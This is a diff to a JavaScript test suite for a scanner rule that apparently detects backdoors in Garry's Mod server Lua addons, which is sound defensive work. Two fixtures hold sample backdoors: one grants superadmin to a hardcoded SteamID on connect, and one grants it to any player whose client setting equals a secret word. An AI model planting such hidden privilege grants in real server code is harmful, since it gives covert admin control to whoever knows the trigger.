@@ -191,4 +191,41 @@ describe('steamid_gate', () => {
     });
     expect(findings).toEqual([]);
   });
+  it("a game event's connecting SteamID compared with a literal, then made superadmin", () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'gameevent.Listen("player_connect")',
+        'hook.Add("player_connect", "x", function(data)',
+        '  if data.networkid == "STEAM_0:1:424242" then',
+        '    timer.Simple(30, function() RunConsoleCommand("ulx", "adduserid", data.networkid, "superadmin") end)',
+        '  end',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('a client convar set to a secret word, checked for every player', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'hook.Add("Think", "x", function()',
+        '  for _, p in ipairs(player.GetAll()) do',
+        '    if p:GetInfo("cl_backdoor_key") == "letmein" then p:SetUserGroup("superadmin") end',
+        '  end',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('a client setting turning a feature on, and connections logged (benign)', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'gameevent.Listen("player_connect")',
+        'hook.Add("player_connect", "log", function(data) print(data.name .. " (" .. data.networkid .. ") connecting") end)',
+        'hook.Add("PlayerSpawn", "hud", function(ply)',
+        '  if ply:GetInfo("cl_myhud_armor") == "true" then ply:SetArmor(50) end',
+        'end)',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
 });
